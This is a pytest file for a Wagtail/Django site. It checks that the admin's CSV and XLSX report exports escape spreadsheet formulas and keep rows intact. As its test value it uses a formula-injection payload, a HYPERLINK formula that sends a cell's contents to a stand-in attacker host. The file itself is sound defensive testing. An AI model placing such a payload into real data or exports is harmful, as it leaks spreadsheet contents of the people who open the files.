"""No spreadsheet program runs what editors wrote into the reports of the admin."""

import csv
import io
import re

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.utils.timezone import now
from hypothesis import given, settings
from hypothesis import strategies as st
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.models import Page, Task, Workflow

from site_core.http.spreadsheet_exports import escape_csv
from site_core.lib.spreadsheets import FORMULA_PREFIXES
from site_core.media.models import ClinicDocument
from tests.support.admin_walk import admin_patterns, admin_routes, build_url, create_objects

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
few = settings(max_examples=50, deadline=None, database=None)


@pytest.fixture
def urls_of_exports(site, admin_client, admin_user):
    """Return the URLs of all views with a download button, by name. Everything that has a title begins with “=”."""
    admin_user.username = admin_user.first_name = admin_user.last_name = FORMULA
    admin_user.save()
    objects = create_objects(site, admin_user)
    Page.objects.filter(depth__gt=1).update(title=FORMULA, draft_title=FORMULA, locked=True, locked_at=now())
    Workflow.objects.update(name=FORMULA)
    Task.objects.update(name=FORMULA)
    arguments = admin_patterns()
    return {name: build_url(name, arguments[name], objects) for name in exports()}


def exports():
    """Return the names of the views with a download button."""
    return [
        name
        for name, _route, view in admin_routes()
        if issubclass(getattr(view, "view_class", object), SpreadsheetExportMixin)
        and view.view_initkwargs.get("list_export", view.view_class.list_export)
        and not name.endswith("results")
        and name != "wagtailredirects:index"  # the redirect app has a list of its own, at the same path
    ]


def test_exports_of_all_views_have_no_formulas(urls_of_exports, admin_client):
    assert len(urls_of_exports) >= 10
    hostile = set()
    for name, url in urls_of_exports.items():
        response = admin_client.get(f"{url}?export=csv")
        assert response["Content-Type"].startswith("text/csv"), name
        rows = list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not is_number(cell)], name
        hostile |= {name for cell in cells if FORMULA in cell}
    reports = ("locked_pages", "site_history", "workflow", "workflow_tasks")
    assert hostile >= {"seo_audit:report", *(f"wagtailadmin_reports:{report}" for report in reports)}


def test_texts_in_xlsx_exports_are_no_formulas(urls_of_exports, admin_client):
    for name, url in urls_of_exports.items():
        response = admin_client.get(f"{url}?export=xlsx")
        sheet = openpyxl.load_workbook(io.BytesIO(response.getvalue())).active
        assert not [cell.value for row in sheet for cell in row if cell.data_type == "f"], name


def test_texts_that_xlsx_can_not_hold_are_exported_as_csv(site, admin_client, admin_user):
    Page.objects.filter(depth__gt=1).update(title="A\x0btitle", locked=True, locked_at=now(), locked_by=admin_user)
    response = admin_client.get("/admin/reports/locked/?export=xlsx&locked_at=", follow=True)
    assert response.redirect_chain == [("/admin/reports/locked/?export=csv&locked_at=", 302)]
    assert "Atitle" in response.getvalue().decode()


@pytest.mark.parametrize(
    ("name", "content"), [("scan.pdf", b"%PDF-1.4\n=1,\xff\n%%EOF\n"), ("list.csv", b"=1,caf\xe9\r\n")]
)
def test_documents_are_sent_as_they_are_whatever_their_url_says(site, client, name, content):
    document = ClinicDocument.objects.create(title="A document", file=ContentFile(content, name))
    assert client.get(f"{document.url}?export=csv").getvalue() == content


def is_number(cell):
    return re.fullmatch(r"[+-]?\d+([.,]\d+)?", cell)


@few
@given(st.lists(st.lists(st.text(), min_size=2, max_size=3), max_size=4), st.integers(1, 7))
def test_rows_are_kept_wherever_the_response_is_split(rows, size):
    file = io.StringIO(newline="")
    csv.writer(file).writerows(rows)
    content = file.getvalue().encode(errors="replace")
    whole = b"".join(escape_csv([content]))
    assert b"".join(escape_csv(content[start : start + size] for start in range(0, len(content), size))) == whole
    cells = [cell for row in csv.reader(io.StringIO(whole.decode(), newline="")) for cell in row]
    assert len(cells) == sum(map(len, rows))
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES) and not is_number(cell)]


@pytest.mark.parametrize("cell", ["-5", "+12,5", "3", "2026-11-26", "'=1", "a=b", ""])
def test_numbers_and_other_texts_stay_the_same(cell):
    assert b"".join(escape_csv([f"{cell},x\r\n".encode() if "," not in cell else f'"{cell}",x\r\n'.encode()])) in (
        f"{cell},x\r\n".encode(),
        f'"{cell}",x\r\n'.encode(),
    )
